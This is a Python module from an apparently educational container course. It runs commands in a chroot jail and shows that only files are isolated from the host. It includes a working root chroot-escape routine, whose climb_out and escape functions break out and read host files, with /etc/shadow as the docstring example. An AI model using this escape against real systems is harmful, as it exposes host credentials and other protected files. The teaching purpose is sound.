"""Stage 1: the chroot jail, what it hides, what it does not, and how root walks out of it.

chroot(2) changes one thing: the directory a process resolves ``/`` against. Everything else stays the
host's: the process table, the hostname, the network interfaces, the users, System V IPC and, above all, the
power of root. This module lets a learner see each of those facts on a real kernel::

    from stages import jail, rootfs

    box = rootfs.build("/tmp/box")
    jail.run(box, ["ls", "/"]).stdout            # the rootfs's own files
    jail.run(box, ["ps"], mount_proc=True)        # ... but every host process
    for fact in jail.observations(box):
        print(fact.name, fact.isolated)
    jail.escape(box, "/etc/shadow")               # root climbs out and reads a host file

How a jailed process is started
-------------------------------
The parent never changes its own root: it forks a child with :mod:`subprocess` and the child, between
fork(2) and execve(2), calls chroot(2) and chdir(2) in a ``preexec_fn``. Python documents ``preexec_fn`` as
unsafe when the parent has threads (a Jupyter kernel has several): the forked child holds a copy of every
lock some other thread may have held at the moment of the fork, and deadlocks if it takes one. Our
``preexec_fn`` takes none: it imports nothing, logs nothing and only makes system calls (chroot, chdir,
and for ``mount_proc`` unshare and mount) plus a single ``os.write`` of a short report on a pipe. glibc
resets its own malloc locks in the child of a fork, so the small allocations it makes are safe too. That is
why it is fine here, and why nothing more goes into it.

The escape (:func:`escape`) is more Python code than that, so it runs in a fresh interpreter (which is
single-threaded) instead of a forked copy of the caller.
"""

from __future__ import annotations

import contextlib
import errno
import json
import os
import posixpath
import shlex
import shutil
import signal
import socket
import stat
import subprocess
import sys
import tempfile
import threading
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path

from stages import kernel, steps
from stages import rootfs as rootfs_module
from stages.errors import CommandNotFoundError, NotRootError, RootfsError, StagesError
from stages.steps import Step, StepRecord

#: The environment a jailed command starts with; ``env=`` adds to it. The host's own environment is not
#: passed in: its PATH names host directories that mean nothing inside the rootfs.
DEFAULT_ENV = {
    "PATH": "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
    "HOME": "/root",
    "TERM": os.environ.get("TERM", "dumb"),
}


class JailTimeoutError(StagesError):
    """The jailed command ran longer than ``timeout`` and was killed."""


@dataclass
class JailResult:
    """What came back from a jailed command: exactly its exit code and output.

    ``returncode`` is negative (``-N``) when the command was killed by signal N, as in :mod:`subprocess`.
    ``stdout`` and ``stderr`` are ``None`` when the command wrote to the terminal (``capture=False``).
    """

    returncode: int
    stdout: str | None
    stderr: str | None
    record: StepRecord

    @property
    def ok(self) -> bool:
        return self.returncode == 0


@dataclass(frozen=True)
class Observation:
    """One fact about the jail, seen from the host and from inside.

    ``isolated`` is True when the jail saw something different from the host (it is for files, and for
    nothing else).
    """

    name: str
    host_value: str
    jail_value: str
    isolated: bool
    explanation: str


@dataclass
class EscapeResult:
    """The outcome of :func:`escape`.

    ``visible_in_jail`` says whether the jail, reading ``host_path`` by its path before climbing, got the
    host's file (it does not: chroot hides files, and a file of the same name in the rootfs is another
    file); ``escaped`` whether the climb then read the host's file; ``content`` is what the climb read;
    ``levels`` how many ``cd ..`` it took to reach the real root; ``record`` the steps, as shell commands.
    """

    escaped: bool
    content: str | None
    visible_in_jail: bool
    levels: int
    record: StepRecord
    error: str = ""

    @property
    def steps(self) -> list[Step]:
        return self.record.steps


# == finding a command inside the rootfs ============================================================
def find_command(rootfs: str | os.PathLike, command: str, path: str = DEFAULT_ENV["PATH"]) -> str:
    """Where ``command`` is inside ``rootfs``, as the path the jailed process will execute.

    A name without ``/`` is looked up in each directory of ``path`` inside the rootfs, as execvp(3) would
    after chroot(2). Raises :class:`CommandNotFoundError` when it is not there, and :class:`StagesError`
    when it is there but not executable.
    """
    if "/" in command:
        candidates = [command if command.startswith("/") else "/" + command]
    else:
        candidates = [posixpath.join(directory or "/", command) for directory in path.split(":")]
    for candidate in candidates:
        host = rootfs_module.resolve(rootfs, candidate)
        if not host.is_file():
            continue
        if not os.stat(host).st_mode & (stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH):
            raise StagesError(
                f"{candidate} is in the rootfs {rootfs} but is not executable",
                f"make it executable: chmod +x {host}",
            )
        return candidate
    places = ", ".join(dict.fromkeys(posixpath.dirname(c) for c in candidates))
    raise CommandNotFoundError(
        f"{command} is not in the rootfs {rootfs} (looked in {places})",
        f"run a command the rootfs has (ls {rootfs}/bin), or build a rootfs that has it: "
        f"stages rootfs build DIR --from host --command {posixpath.basename(command)}",
    )


def _require_root(what: str) -> None:
    if not kernel.is_root():
        raise NotRootError(what)


# == running a command in the jail ===================================================================
def _enter_jail(root: str, cwd: str, mount_proc: bool, shell: str, report: int) -> None:
    """The ``preexec_fn``: runs in the forked child, between fork(2) and execve(2).

    It must stay this small (see the module docstring): system calls, and one write of the step record
    back to the parent on the ``report`` pipe, which closes by itself at exec (it is close-on-exec).
    """
    record = StepRecord()
    payload: dict = {}
    try:
        with record.active():
            if mount_proc:
                # A mount made here would land in the host's mount table. In a mount namespace of its own
                # (mount_namespaces(7)) it dies with this process; made rprivate first, nothing we mount
                # propagates back to the host's peer group. No PID namespace: the proc we mount still
                # shows every host process, which is the lesson.
                kernel.unshare(kernel.CLONE_NEWNS, what="a private copy of the mount table for this process")
                kernel.mount(None, "/", flags=kernel.MS_REC | kernel.MS_PRIVATE,
                             what="make every mount private so nothing propagates back to the host")
                kernel.mount("proc", f"{root.rstrip('/')}/proc", "proc",
                             what="the host's process table, seen through /proc inside the jail")
            kernel.chroot(root, what="from now on / means the rootfs, for this process and its children")
            record.do(f"cd {cwd}", os.chdir, cwd, where="inside",
                      what="chroot(2) does not change the working directory: move into the new root")
            record.add(Step(shell=f"exec {shell}", where="inside",
                            what="replace this process by the command"))
    except OSError as error:
        payload = {"errno": error.errno, "error": str(error.strerror or error)}
        raise
    finally:
        # vars() rather than record.to_dicts(): its deep copy touches many objects, and in a forked child
        # every page touched is a page copied.
        payload["steps"] = [dict(vars(item)) for item in record.steps]
        os.write(report, json.dumps(payload).encode())


def _read_report(fd: int) -> dict:
    chunks = []
    while True:
        chunk = os.read(fd, 65536)
        if not chunk:
            break
        chunks.append(chunk)
    os.close(fd)
    try:
        return json.loads(b"".join(chunks) or b"{}")
    except ValueError:
        return {}


def _normalise(command: str | Sequence[str]) -> list[str]:
    words = shlex.split(command) if isinstance(command, str) else [os.fspath(word) for word in command]
    if not words:
        raise StagesError("no command was given to run in the jail", "give one, for example: ['ls', '/']")
    return words


def run(rootfs: str | os.PathLike, command: str | Sequence[str], *, mount_proc: bool = False,
        env: dict[str, str] | None = None, cwd: str = "/", record: StepRecord | None = None,
        capture: bool = True, timeout: float | None = None) -> JailResult:
    """Run ``command`` chrooted into ``rootfs`` and return its exit code and output, unchanged.

    ``command`` is a list of words, or a string split like a shell would (no pipes: use
    ``["sh", "-c", "..."]``). The command is looked up inside the rootfs first, so a missing one is a
    :class:`CommandNotFoundError` before anything is forked. ``mount_proc`` mounts the host's ``/proc``
    at ``/proc`` inside, in a throw-away mount namespace (the host's mount table never sees it).
    ``env`` adds variables to :data:`DEFAULT_ENV`. ``cwd`` is the working directory inside the jail.
    ``capture=False`` lets the command use the caller's terminal (``stdout``/``stderr`` are then None).
    Steps (``chroot DIR``, ``cd /``, ``exec CMD`` ...) are appended to ``record`` (a new one if None).

    Raises :class:`NotRootError`, :class:`RootfsError` (no rootfs, or one on a noexec filesystem),
    :class:`CommandNotFoundError`, and :class:`JailTimeoutError` after killing the command.
    """
    _require_root("chroot")
    root = rootfs_module.check(rootfs)
    words = _normalise(command)
    environment = {**DEFAULT_ENV, **(env or {})}
    executable = find_command(root, words[0], environment.get("PATH", DEFAULT_ENV["PATH"]))
    host_executable = rootfs_module.resolve(root, executable)
    if rootfs_module.is_noexec(host_executable):  # /bin/sh was checked; the command may be on another mount
        mount_point = rootfs_module.mount_point(host_executable)
        raise RootfsError(
            f"the rootfs {rootfs} is on a filesystem mounted noexec ({mount_point}): "
            "the kernel refuses to run any program from it",
            f"build the rootfs somewhere else (stages rootfs build /var/lib/stages/rootfs/NAME), "
            f"or allow programs there: mount -o remount,exec {mount_point}",
        )
    record = record if record is not None else StepRecord(title=f"chroot jail {root}")
    shell = shlex.join(words)
    # After chroot(2) the working directory is still the parent's, outside the jail: a relative cwd would
    # be looked up from there. Always change to an absolute one, which is looked up in the rootfs.
    cwd = posixpath.join("/", cwd)

    report_read, report_write = os.pipe()  # both close-on-exec (PEP 446)
    output = subprocess.PIPE if capture else None
    try:
        try:
            process = subprocess.Popen(
                words, executable=executable, env=environment, close_fds=True,
                stdin=subprocess.DEVNULL if capture else None, stdout=output, stderr=output,
                preexec_fn=lambda: _enter_jail(str(root), cwd, mount_proc, shell, report_write),
            )
        finally:
            os.close(report_write)
    except subprocess.SubprocessError:  # the preexec_fn raised: the report says what failed
        report = _read_report(report_read)
        record.extend(report.get("steps", []))
        raise _child_error(root, report, cwd) from None
    except OSError as error:  # execve(2) itself failed
        report = _read_report(report_read)
        record.extend(report.get("steps", []))
        if record.steps:
            record.steps[-1].ok, record.steps[-1].error = False, error.strerror or str(error)
        raise _exec_error(root, executable, error) from None
    record.extend(_read_report(report_read).get("steps", []))

    try:
        with _terminal_keys_go_to(process, owned=not capture):
            stdout, stderr = process.communicate(timeout=timeout)
    except subprocess.TimeoutExpired:
        process.kill()
        process.wait()
        raise JailTimeoutError(
            f"{shell} did not finish within {timeout} s in the jail and was killed",
            "give it more time (timeout=...), or check that it does not wait for input",
        ) from None
    except BaseException:  # Ctrl-C in a notebook or a terminal: never leave the command behind
        if process.poll() is None:
            process.send_signal(signal.SIGKILL)
        process.wait()
        raise
    decode = (lambda data: data.decode("utf-8", "replace")) if capture else (lambda data: None)
    return JailResult(process.returncode, decode(stdout), decode(stderr), record)


@contextlib.contextmanager
def _terminal_keys_go_to(process: subprocess.Popen, owned: bool):
    """While a command owns the terminal, Ctrl-C and Ctrl-\\ are its keys, not ours.

    The terminal sends SIGINT to the whole foreground process group: the jailed command and this parent.
    Like a shell waiting for its foreground job, the parent ignores it meanwhile, so that Ctrl-C at a
    jailed ``sh`` prompt does what it does in any shell, and a command that dies of it reports it in its
    exit status. (Only the main thread may change signal handlers; elsewhere nothing changes.)
    """
    if not owned or threading.current_thread() is not threading.main_thread():
        yield
        return
    previous = {number: signal.signal(number, signal.SIG_IGN) for number in (signal.SIGINT, signal.SIGQUIT)}
    try:
        yield
    finally:
        for number, handler in previous.items():
            signal.signal(number, handler)


def _child_error(root: Path, report: dict, cwd: str) -> StagesError:
    number, text = report.get("errno"), report.get("error", "the child failed before running the command")
    failed = next((item for item in report.get("steps", []) if not item.get("ok", True)), None)
    if number == errno.EPERM:
        return NotRootError("chroot")
    if failed and failed["shell"].startswith("mount -t proc"):
        return RootfsError(f"could not mount proc at {root}/proc: {failed['error'] or text}",
                           f"the rootfs needs an empty directory there: mkdir {root}/proc")
    if failed and failed["shell"].startswith("cd "):
        return StagesError(f"the working directory {cwd} does not exist inside the rootfs {root}",
                           f"create it (mkdir -p {root}/{cwd.lstrip('/')}) or pass another cwd")
    step_text = failed["shell"] if failed else "setting up the jail"
    return StagesError(f"{step_text} failed: {text}", "see the step record for what was done before")


def _exec_error(root: Path, executable: str, error: OSError) -> StagesError:
    if error.errno == errno.ENOENT:
        return RootfsError(
            f"{executable} is in the rootfs {root} but the kernel could not start it: the program it needs "
            "to run it (its dynamic loader, or the interpreter on its #! line) is not in the rootfs",
            f"copy in what it needs (ldd {root}{executable}), or use a static program such as busybox",
        )
    if error.errno == errno.EACCES:
        return RootfsError(f"the kernel refused to run {executable} from the rootfs {root}: "
                           "permission denied (is a directory on the way mounted noexec?)",
                           f"check the mount options: findmnt -T {root}")
    if error.errno == errno.ENOEXEC:
        return RootfsError(f"{executable} in the rootfs {root} is not a program this kernel can run",
                           "use binaries built for this machine's architecture")
    return StagesError(f"could not start {executable} in the jail: {error.strerror or error}")


# == what the jail hides, and what it does not ======================================================
def observations(rootfs: str | os.PathLike) -> list[Observation]:
    """Look at the jail from the host and from inside, one kernel resource at a time.

    Each observation runs real commands in the jail: a canary file made on the host for files, ``ps`` for
    processes, ``hostname``, ``ip link``, ``id`` and the uid map for users, a System V message queue made on
    the host for IPC, ``kill -0`` on a host process for root's power, and ``uname -r`` for the kernel. Only
    files come out isolated. Everything made for the occasion (canary, message queue) is removed again.
    """
    root = rootfs_module.check(rootfs)
    return [check(root) for check in (_observe_files, _observe_processes, _observe_hostname,
                                      _observe_network, _observe_users, _observe_ipc, _observe_power,
                                      _observe_kernel)]


def _observe_files(root: Path) -> Observation:
    with tempfile.TemporaryDirectory(prefix="stages-canary-") as directory:
        canary = Path(directory) / "canary.txt"
        canary.write_text("a host file the jail should not see\n")
        inside = run(root, ["cat", str(canary)])
    seen = inside.returncode == 0
    return Observation(
        "files",
        f"{canary} exists on the host",
        inside.stdout.strip() if seen else (inside.stderr.strip() or f"cat exited {inside.returncode}"),
        not seen,
        "chroot(2) changes what / means for path lookups: a host path names a file in the rootfs, "
        "so host files are out of reach by name. That is all it does.",
    )


def _pids(text: str) -> list[int]:
    return [int(line.split()[0]) for line in text.splitlines() if line.split() and line.split()[0].isdigit()]


def _observe_processes(root: Path) -> Observation:
    without = run(root, ["ps"])
    inside = run(root, ["ps"], mount_proc=True)
    host = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    mine = os.getpid()
    jail_pids = _pids(inside.stdout)
    return Observation(
        "processes",
        f"{len(host)} processes, among them pid {mine} (this program)",
        f"ps listed {len(_pids(without.stdout))} without /proc; with /proc mounted it lists {len(jail_pids)}"
        f", among them pid {mine}" if mine in jail_pids else f"ps lists {len(jail_pids)}, not pid {mine}",
        mine not in jail_pids,
        "ps reads /proc. An empty /proc directory hides nothing: once proc is mounted, every host process "
        "is there, because there is no PID namespace.",
    )


def _observe_hostname(root: Path) -> Observation:
    inside = run(root, ["hostname"]).stdout.strip()
    host = socket.gethostname()
    return Observation(
        "hostname", host, inside, inside != host,
        "The hostname belongs to the UTS namespace, which chroot does not touch (the jail's /etc/hostname "
        "is only a file).",
    )


def _link_names(text: str) -> list[str]:
    names = []
    for line in text.splitlines():
        if line[:1].isdigit() and ": " in line:
            names.append(line.split(": ")[1].split("@")[0].strip())
    return sorted(names)


def _observe_network(root: Path) -> Observation:
    with open("/proc/net/dev") as handle:  # the host's view, as observe.net_devices() reads it
        host = sorted(line.split(":", 1)[0].strip() for line in handle.readlines()[2:])
    inside = _link_names(run(root, ["ip", "link"]).stdout)
    return Observation(
        "network interfaces", ", ".join(host), ", ".join(inside), inside != host,
        "Interfaces belong to the network namespace; `ip link` in the jail talks to the same kernel and "
        "lists the host's interfaces: the jail can use every one of them.",
    )


def _observe_users(root: Path) -> Observation:
    inside = run(root, ["sh", "-c", "id; cat /proc/self/uid_map"], mount_proc=True)
    lines = inside.stdout.split("\n", 1)
    uid_line = lines[0].strip()
    uid_map = " ".join(lines[1].split()) if len(lines) > 1 else ""
    with open("/proc/self/uid_map") as handle:
        host_map = " ".join(handle.read().split())
    uid = uid_line.split("=", 1)[1].split("(")[0] if uid_line.startswith("uid=") else "?"
    return Observation(
        "users", f"uid {os.geteuid()}, uid_map {host_map}", f"{uid_line}; uid_map {uid_map}",
        uid != str(os.geteuid()) or uid_map != host_map,
        "No user namespace: uid 0 in the jail is uid 0 on the host, the same root. The name `root` comes "
        "from the rootfs's /etc/passwd; the kernel only checks the number.",
    )


def _observe_ipc(root: Path) -> Observation:
    made = subprocess.run(["ipcmk", "-Q"], capture_output=True, text=True) if shutil.which("ipcmk") else None
    if made is None or made.returncode != 0:
        # util-linux is essential on Debian and Ubuntu; without ipcmk there is nothing to look for.
        return Observation("System V IPC", "not observed: ipcmk (util-linux) could not make a queue",
                           "not observed", False,
                           "Not observed here (install util-linux). The IPC namespace, not the root "
                           "directory, decides which message queues a process sees; chroot leaves it shared.")
    queue = made.stdout.strip().split()[-1]
    try:
        inside = run(root, ["cat", "/proc/sysvipc/msg"], mount_proc=True)
    finally:
        subprocess.run(["ipcrm", "-q", queue], capture_output=True)
    ids = [line.split()[1] for line in inside.stdout.splitlines()[1:] if len(line.split()) > 1]
    return Observation(
        "System V IPC", f"message queue {queue} made on the host (ipcmk -Q)",
        f"/proc/sysvipc/msg in the jail lists queue {queue}" if queue in ids else "the queue is not listed",
        queue not in ids,
        "Message queues, semaphores and shared memory belong to the IPC namespace: a jailed program can "
        "read and write the host's.",
    )


def _observe_power(root: Path) -> Observation:
    mine = os.getpid()
    inside = run(root, ["kill", "-0", str(mine)])
    return Observation(
        "root's power", f"pid {mine} is this program, running on the host",
        f"kill -0 {mine} from the jail exited {inside.returncode}"
        + (" (allowed: it could as well send SIGKILL)" if inside.returncode == 0 else ""),
        inside.returncode != 0,
        "Root in the jail keeps every capability: it may signal any host process, mount filesystems, "
        "make device nodes, load kernel modules, and chroot again, which is how it escapes.",
    )


def _observe_kernel(root: Path) -> Observation:
    inside = run(root, ["uname", "-r"]).stdout.strip()
    host = os.uname().release
    return Observation(
        "kernel", host, inside, inside != host,
        "There is one kernel. A jail, and a container, are processes of the host's kernel; a VM boots its "
        "own.",
    )


# == the escape ========================================================================================
def climb_out(target_path: str, *, scratch: str = "/.stages-escape") -> bytes:
    """Break out of a chroot(2) jail and return the bytes of ``target_path``, a path on the real root.

    Call it only in a process you will throw away, after it changed its root: it changes that process's
    root again. The classic climb, which chroot(2) itself describes ("This call does not change the current
    working directory, so that after the call '.' can be outside the tree rooted at '/'. In particular,
    the superuser can escape from a 'chroot jail' by doing: mkdir foo; chroot foo; cd .."):

    1. ``mkdir SCRATCH`` inside the jail (or use an existing directory if the rootfs is read-only);
    2. ``chroot SCRATCH`` without ``cd``: the root moves below the working directory, which is now outside
       the root, where the kernel's ``..`` check never stops;
    3. ``cd ..`` until ``.`` and ``..`` are the same directory: the real root;
    4. ``chroot .`` and read ``target_path`` by its host path.

    After pivot_root(2) in a mount namespace (stage 2) the same climb ends at the container's own root,
    because the old root is not reachable any more; then ``target_path`` is simply not there and this
    raises :class:`FileNotFoundError`. A missing CAP_SYS_CHROOT raises :class:`PermissionError`.
    """
    jail_root = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    made = False
    try:
        try:
            with steps.record(f"mkdir {scratch}", what="a directory to chroot into", where="inside"):
                os.mkdir(scratch, 0o700)
            made = True
            below = scratch
        except OSError:  # a read-only rootfs: any existing directory below / will do
            below = next((f"/{name}" for name in sorted(os.listdir("/"))
                          if os.path.isdir(f"/{name}") and not os.path.islink(f"/{name}")), None)
            if below is None:
                raise
        kernel.chroot(below, what="move the root below us, but do not cd: the working directory is now "
                                  "outside the root")
        levels = 0
        with steps.record("cd ..", where="inside", what="climb: no root is in the way any more") as item:
            # At the real root "." and ".." are the same directory (same inode on the same device).
            while os.stat(".")[1:3] != os.stat("..")[1:3] and levels < 1024:
                os.chdir("..")
                levels += 1
            item.shell = "cd " + ("/".join([".."] * levels) if levels else ".")
            item.what = f"climb {levels} levels up: no root is in the way any more"
        kernel.chroot(".", what="make the real root our root again")
        with steps.record(f"cat {target_path}", what="read the host file", where="inside"):
            with open(target_path, "rb") as handle:
                return handle.read()
    finally:
        if made:
            os.rmdir(scratch.lstrip("/"), dir_fd=jail_root)
        os.close(jail_root)


def _escape_child() -> None:
    """The jailed attacker, run as ``python -S -c`` by :func:`escape`: argv is ROOTFS HOST_PATH."""
    root, target = sys.argv[1], sys.argv[2]
    record = StepRecord()
    result: dict = {"in_jail": None, "content": None, "error": "", "levels": 0}
    with record.active():
        try:
            kernel.chroot(root, what="enter the jail")
            record.do("cd /", os.chdir, "/", where="inside", what="now inside: / is the rootfs")
            try:
                with record.step(f"cat {target}", where="inside",
                                 what="the host file by its path, from inside the jail") as item:
                    with open(target, "rb") as handle:
                        result["in_jail"] = handle.read().decode("utf-8", "replace")
                    item.what = "by its path from inside the jail: this is the rootfs's own file"
            except OSError:
                pass
            content = climb_out(target)
            result["content"] = content.decode("utf-8", "replace")
            result["levels"] = next((item.shell.count("..") for item in record.steps
                                     if item.shell.startswith("cd ..")), 0)
        except OSError as error:
            result["error"] = str(error)
    result["steps"] = record.to_dicts()
    os.write(1, json.dumps(result).encode())


def escape(rootfs: str | os.PathLike, host_path: str | os.PathLike, *, record: StepRecord | None = None,
           timeout: float = 30) -> EscapeResult:
    """Have root inside a chroot jail on ``rootfs`` break out and read ``host_path``, a host file.

    A fresh child process chroots into the rootfs, tries ``host_path`` by name (not there: that is what
    chroot hides), then runs :func:`climb_out` and reads it anyway. The calling process is not changed.
    The rootfs is left as it was (the scratch directory is removed). The steps, as shell commands, are
    appended to ``record`` (a new one if None).
    """
    _require_root("the chroot escape")
    root = rootfs_module.check(rootfs)
    target = os.fspath(host_path)
    if not target.startswith("/"):
        raise StagesError(f"{target} is not an absolute path",
                          "give the host file by its full path, e.g. /etc/hostname")
    package_parent = str(Path(__file__).resolve().parent.parent)
    code = (f"import sys; sys.path.insert(0, {package_parent!r}); "
            "from stages.jail import _escape_child; _escape_child()")
    try:
        done = subprocess.run([sys.executable, "-S", "-c", code, str(root), target], capture_output=True,
                              timeout=timeout, stdin=subprocess.DEVNULL)
    except subprocess.TimeoutExpired:
        raise JailTimeoutError(f"the escape did not finish within {timeout} s and was stopped",
                               "is the machine very busy? try again with a larger timeout") from None
    try:
        report = json.loads(done.stdout)
    except ValueError:
        raise StagesError(f"the escape child failed (exit {done.returncode}): "
                          f"{done.stderr.decode(errors='replace').strip()[-300:]}") from None
    record = record if record is not None else StepRecord(title=f"root escapes the chroot jail {root}")
    record.extend(report["steps"])
    try:
        with open(target, "rb") as handle:
            on_host: str | None = handle.read().decode("utf-8", "replace")
    except OSError:
        on_host = None
    content = report["content"]
    return EscapeResult(
        escaped=content is not None and content == on_host, content=content,
        visible_in_jail=report["in_jail"] is not None and report["in_jail"] == on_host,
        levels=report["levels"], record=record, error=report["error"],
    )


__all__ = [
    "DEFAULT_ENV", "EscapeResult", "JailResult", "JailTimeoutError", "Observation", "climb_out", "escape",
    "find_command", "observations", "run",
]
